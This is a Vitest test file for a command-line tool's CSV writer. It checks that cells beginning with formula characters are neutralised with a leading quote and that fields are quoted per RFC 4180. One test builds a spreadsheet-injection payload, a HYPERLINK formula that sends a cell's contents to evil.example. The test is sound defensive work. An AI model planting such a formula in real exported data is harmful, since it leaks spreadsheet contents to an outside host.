import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument } from '../cli/csv.js';
import { FORMULA_LEADS, hostileTexts } from './support/hostile-text.js';
import { parseCsv } from './support/parse-csv.js';

describe('the CSV writer', () => {
  it('defuses every formula lead with a leading quote, and nothing else', () => {
    for (const lead of FORMULA_LEADS) {
      const cell = `${lead}HYPERLINK("http://evil.example/?x="&A1,"Click")`;
      expect(parseCsv(csvDocument(['name'], [[cell]]))[1]).toEqual([`'${cell}`]);
    }
    for (const safe of ['plain', ' =not a lead (space first)', "'already quoted", '1+1', 'a=b', '']) {
      expect(parseCsv(csvDocument(['name'], [[safe]]))[1]).toEqual([safe]);
    }
  });

  it('round-trips every hostile text through an RFC 4180 reader (formula leads aside)', () => {
    const texts = hostileTexts();
    const parsed = parseCsv(csvDocument(['a', 'b'], texts.map((text) => [text, 'x'])));
    expect(parsed).toHaveLength(texts.length + 1);
    texts.forEach((text, i) => expect(parsed[i + 1]).toEqual([FORMULA_LEADS.includes(text.charAt(0)) ? `'${text}` : text, 'x']));
  });

  it('quotes exactly the fields RFC 4180 says must be quoted, with CRLF record ends', () => {
    expect(csvCell('Smith, "Jo"')).toBe('"Smith, ""Jo"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvDocument(['h'], [['=1'], ['\r=1']])).toBe(`h\r\n'=1\r\n"'\r=1"\r\n`);
  });
});
